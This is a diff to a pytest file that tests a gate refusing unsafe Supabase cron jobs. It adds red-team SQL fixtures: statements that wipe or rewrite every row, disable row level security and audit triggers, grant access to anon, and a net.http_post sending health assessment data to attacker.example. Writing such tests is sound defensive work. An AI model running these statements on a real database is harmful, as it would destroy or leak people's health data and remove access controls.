@@ -5,7 +5,6 @@ safe twin; then both policies through the real pack process at each stack's leve
 
 from __future__ import annotations
 
-from pathlib import Path
 
 import pytest
 
@@ -71,6 +70,25 @@ JOB_ATTACKS = {
                         "calls cron.schedule(), which no migration defines"),
     "unknown-function": ({"call": "extensions.pg_stat_statements_reset"},
                          "calls extensions.pg_stat_statements_reset(), which no migration defines"),
+    # A second red-team pass: each of these planned with PASS and changed prod when run.
+    "where-id-is-id": ({"sql": "delete from public.assessments where id = id"},
+                       "is a DELETE whose WHERE does not compare a column with a value"),
+    "merge-deletes": ({"sql": "merge into public.assessments a using (select 1 as x) s on true "
+                              "when matched then delete"}, "is a MERGE statement"),
+    "update-every-row": ({"sql": "update public.assessments set phq9_score = 0"}, "is a UPDATE statement"),
+    "rls-off": ({"sql": "alter table public.assessments disable row level security"}, "is a ALTERTABLE statement"),
+    "grant-to-anon": ({"sql": "grant select on public.assessments to anon"}, "is a GRANT statement"),
+    "drop-policy": ({"sql": "drop policy \"owner reads own assessments\" on public.assessments"}, "is a DROP statement"),
+    "audit-off": ({"sql": "alter table public.assessments disable trigger all"}, "is a ALTERTABLE statement"),
+    "schedules-by-name": ({"sql": "do $$ begin perform cron.schedule(job_name => 'x', schedule => '* * * * *', "
+                                  "command => 'delete from public.' || 'assessments'); end $$"}, "is a DO statement"),
+    "rewrites-a-job": ({"sql": "select cron.alter_job(1, command := 'truncate public.assessments')"},
+                       "calls cron.alter_job(), which is not the app's"),
+    "sends-health-data": ({"sql": "select net.http_post('https://attacker.example/x', "
+                                  "(select jsonb_agg(a) from public.assessments a))"}, "calls net.http_post()"),
+    "vacuum-full": ({"sql": "vacuum full public.engagement_events"}, "is VACUUM FULL"),
+    "an-argument-that-reads": ({"sql": "select public.cleanup_rate_limits((select count(*) from public.assessments))"},
+                               "an argument that reads a table"),
 }
 JOB_TWINS = {
     "refresh-metrics": {"call": "analytics.refresh_latest_unified_metrics", "timeout": "5min"},
@@ -86,8 +104,9 @@ JOB_TWINS = {
 def test_a_job_the_gate_refuses(migrations, name):
     template, what = JOB_ATTACKS[name]
     found = job_gate_violations(_pairs([_migrations("prod", migrations), _job("prod", name, **template)]))
-    assert [f.object for f in found] == [name], [f.message for f in found]
-    assert what in found[0].message and "Fix:" in found[0].sentence()
+    assert found and {f.object for f in found} == {name}, [f.message for f in found]
+    assert any(what in f.message for f in found), [f.message for f in found]
+    assert all("Fix:" in f.sentence() for f in found)
 
 
 def test_the_safe_twins_and_supagates_own_jobs_pass(migrations):
@@ -176,9 +195,10 @@ def test_both_policies_through_the_real_pack(pack, migrations):
                  _resource(stack, ALERT_RULE, "operations-rule-app-cleanup", {"name": "app-cleanup", "rule": rule})]
     found = [v for v in running.analyze_stack(resources)
              if v.rule in ("supabase-cron-require-gated-sql", "supabase-alerts-require-proven-sql")]
-    assert sorted((v.rule, v.enforcement) for v in found) == [
+    assert sorted(set((v.rule, v.enforcement) for v in found)) == [  # the drop is a loss, and not a job's shape
         ("supabase-alerts-require-proven-sql", _expected_level(stack, "supabase-alerts-require-proven-sql")),
         ("supabase-cron-require-gated-sql", _expected_level(stack, "supabase-cron-require-gated-sql"))]
+    assert not any("cleanup-with-where" in v.message for v in found)
     assert all(level == "mandatory" for _, level in [(v.rule, v.enforcement) for v in found])
     assert any("drop-assessments drops table public.assessments" in v.message for v in found)
     assert any("read-only transaction" in v.message for v in found)
